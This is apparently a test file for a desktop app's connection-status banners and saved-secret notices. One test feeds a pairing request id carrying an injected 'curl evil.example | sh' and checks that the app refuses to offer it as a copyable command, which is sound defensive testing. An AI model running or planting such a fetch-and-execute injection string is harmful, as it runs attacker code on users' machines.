// G2: every connection state says what to do.
import { describe, test } from "node:test";
import assert from "node:assert/strict";
import { connectionBanner, connectionWord, credentialBanner, retryCountdown, segments } from "../../renderer/lib/connection-view.ts";
import { forgottenSecretsNotice, secretsToForget } from "../../renderer/lib/secret-notice.ts";
import { connected, offline, T0 } from "./fixtures.ts";

describe("connection banner", () => {
  test("connected with full access: nothing", () => {
    assert.equal(connectionBanner("Home", connected(T0)), null);
  });

  test("limited access is said, with the advice", () => {
    const b = connectionBanner("Home", {
      ...connected(T0, true),
      advice: "Limited access: approve the scope upgrade (`openclaw devices list`).",
    });
    assert.equal(b?.kind, "limited");
    assert.equal(b?.title, "Limited access to Home");
    assert.deepEqual(
      b?.detail.filter((s) => s.code).map((s) => s.text),
      ["openclaw devices list"],
    );
  });

  test("connecting", () => {
    const b = connectionBanner("Home", { state: "connecting", attempt: 3, advice: "" });
    assert.equal(b?.title, "Connecting to Home…");
    assert.equal(b?.urgent, false);
  });

  test("offline counts down from nextRetryAt", () => {
    const b = connectionBanner("Home", offline(T0 + 5000), T0 + 1200);
    assert.equal(b?.title, "Home is offline");
    assert.equal(b?.countdown, "retrying in 4 s");
    assert.equal(b?.retryAt, T0 + 5000);
    assert.deepEqual(b?.actions, ["retry"]);
    assert.equal(connectionBanner("Home", offline(T0 + 5000), T0 + 6000)?.countdown, "retrying now…");
  });

  test("a restarting Gateway says so", () => {
    const b = connectionBanner("Home", offline(T0 + 3000, { restarting: true }), T0);
    assert.equal(b?.title, "Home is restarting");
    assert.equal(b?.tone, "info");
  });

  test("pairing required: the request id and the exact command", () => {
    const b = connectionBanner("Home", {
      state: "pairing_required",
      requestId: "req-42",
      deviceId: "dev",
      command: null,
      reason: "not-paired",
      advice: "…",
    });
    assert.equal(b?.requestId, "req-42");
    assert.equal(b?.command, "openclaw devices approve req-42");
    assert.equal(b?.urgent, true);
  });

  test("pairing: a request id with shell syntax (a rogue Gateway) gives no command to copy", () => {
    const b = connectionBanner("Home", {
      state: "pairing_required",
      requestId: "req-42; curl evil.example | sh",
      deviceId: "dev",
      command: null,
      reason: "not-paired",
      advice: "Run `openclaw devices list`.",
    });
    assert.equal(b?.command, null);
    assert.ok(b?.detail.some((s) => s.code && s.text === "openclaw devices list"));
  });

  test("pairing without a request id falls back to the advice", () => {
    const b = connectionBanner("Home", {
      state: "pairing_required",
      requestId: null,
      deviceId: "dev",
      command: null,
      reason: "x",
      advice: "Run `openclaw devices list`.",
    });
    assert.equal(b?.command, null);
    assert.ok(b?.detail.some((s) => s.code && s.text === "openclaw devices list"));
  });

  test("auth failed: which setting to fix, and a way to Settings", () => {
    const b = connectionBanner("Home", {
      state: "auth_failed",
      code: "AUTH_TOKEN_MISMATCH",
      setting: "token",
      advice: "Copy gateway.auth.token into Settings.",
    });
    assert.equal(b?.title, "Home refused the sign-in: check the gateway token");
    assert.deepEqual(b?.actions, ["settings", "retry"]);
    assert.equal(b?.tone, "error");
  });

  test("update required", () => {
    const b = connectionBanner("Home", {
      state: "update_required",
      reason: "the Gateway lacks progressCard.get",
      advice: "Update OpenClaw.",
    });
    assert.equal(b?.title, "Home needs an update");
    assert.equal(b?.detail[0]?.text, "The Gateway lacks progressCard.get. Update OpenClaw.");
  });
});

test("segments split code spans and keep an unmatched backtick as text", () => {
  assert.deepEqual(segments("run `a b` now"), [
    { text: "run ", code: false },
    { text: "a b", code: true },
    { text: " now", code: false },
  ]);
  assert.deepEqual(segments("odd `tail"), [
    { text: "odd ", code: false },
    { text: "tail", code: false },
  ]);
});

test("retryCountdown rounds up", () => {
  assert.equal(retryCountdown(10_000, 0), "Retrying in 10 s");
  assert.equal(retryCountdown(10_000, 9_001), "Retrying in 1 s");
});

test("connection words", () => {
  assert.equal(connectionWord(connected(T0)), "Connected");
  assert.equal(connectionWord(connected(T0, true)), "Connected (limited access)");
  assert.equal(connectionWord(offline(T0)), "Offline");
});

describe("keychain banner (issue 8, finding 3)", () => {
  test("unavailable: says nothing was deleted, what to do, and leads to Settings; urgent", () => {
    const b = credentialBanner("unavailable");
    assert.equal(b?.kind, "keychain_unavailable");
    assert.equal(b?.title, "The keychain is unavailable: saved Gateway secrets can't be read. Nothing was deleted.");
    assert.equal(b?.tone, "error");
    assert.equal(b?.urgent, true, "announced as an alert");
    assert.deepEqual(b?.actions, ["settings"]);
    const detail = b!.detail.map((s) => s.text).join("");
    assert.match(detail, /Unlock the keychain/);
    assert.match(detail, /unencrypted/);
  });

  test("a working keychain or a plain file: no banner", () => {
    for (const s of ["os-keychain", "file", null, undefined] as const) assert.equal(credentialBanner(s), null, String(s));
  });
});

describe("the Gateway editor's notice before Save (issue 8, finding 2)", () => {
  const saved = {
    id: "gw-1",
    label: "Home",
    color: "#0a84ff",
    url: "wss://home.example",
    answerApprovals: false,
    hasToken: true,
    hasPassword: true,
    hasSetupCode: false,
  };
  const none = { token: false, password: false, setupCode: false };

  test("another origin names every saved secret that will be forgotten", () => {
    assert.equal(
      forgottenSecretsNotice(saved, "wss://evil.example", none),
      "The saved token and password will be forgotten: wss://evil.example is another server than wss://home.example, so Progress Desk won't send them there. Enter them again if that server needs them.",
    );
    assert.match(
      forgottenSecretsNotice({ ...saved, hasSetupCode: true }, "ws://home.example", none)!,
      /^The saved token, password and setup code will be forgotten/,
    );
    assert.match(
      forgottenSecretsNotice(saved, "wss://evil.example", { ...none, token: true })!,
      /^The saved password will be forgotten: .* won't send it there/,
    );
  });

  test("the same origin, a new Gateway, an unfinished address or nothing saved: no notice", () => {
    for (const url of ["wss://HOME.example:443/", "wss://home.example/path", "wss://", "wss:"])
      assert.equal(forgottenSecretsNotice(saved, url, none), null, url);
    assert.equal(forgottenSecretsNotice(null, "wss://evil.example", none), null);
    assert.equal(forgottenSecretsNotice({ ...saved, hasToken: false, hasPassword: false }, "wss://evil.example", none), null);
    assert.deepEqual(secretsToForget(saved, "wss://evil.example", { token: true, password: true, setupCode: false }), []);
  });
});
